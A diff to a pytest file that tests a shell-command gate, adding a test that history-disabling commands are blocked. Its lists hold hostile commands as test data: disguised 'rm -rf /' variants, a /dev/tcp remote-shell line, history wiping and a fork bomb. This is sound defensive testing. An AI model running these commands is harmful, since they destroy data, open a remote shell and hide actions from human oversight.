@@ -122,6 +122,14 @@ RM_VARIANTS = [
     "echo 'rm -rf /' > /tmp/x.sh; bash /tmp/x.sh",  # the line blocks where it is written to run
     "cat <<EOF | sh\nrm -rf /\nEOF", "sh <(echo rm -rf /)", "echo $(( $(rm -rf /) + 1 ))", "trap 'rm -rf /' EXIT",
 ]
+# History switched off for good (the file a link to nothing): anti-forensics, not a one-off clean-up
+ANTI_FORENSICS = ["ln -sf /dev/null ~/.bash_history", "history -c; unset HISTFILE"]
+
+
+@pytest.mark.parametrize("command", ANTI_FORENSICS)
+def test_history_switched_off_for_good_blocks(command: str) -> None:
+    assert shell(command) is Decision.BLOCK, command
+
 
 # Tricks the gate sees through only as far as "something is hidden here": it asks rather than blocks.
 # (The slash look-alike and `ls / | xargs` are not the root at all: `∕` is a file name, `ls /` prints
@@ -130,7 +138,7 @@ ASK_VARIANTS = ["IFS=,;`echo rm,-rf,/`", "rm -rf ${HOME:0:1}", "${PATH:0:0}rm -r
                 "ls / | xargs rm -rf",
                 "exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | bash >&5", "find / -exec chmod 777 {} +",
                 "rm ~/.bash_history", "> ~/.bash_history", "shred -u ~/.zsh_history",
-                "ln -sf /dev/null ~/.bash_history", "truncate -s0 ~/.bash_history", "while true; do bash & done",
+                "truncate -s0 ~/.bash_history", "while true; do bash & done",
                 "while true; do sleep 1 & done",
                 "frobnicate --wipe /"]
 
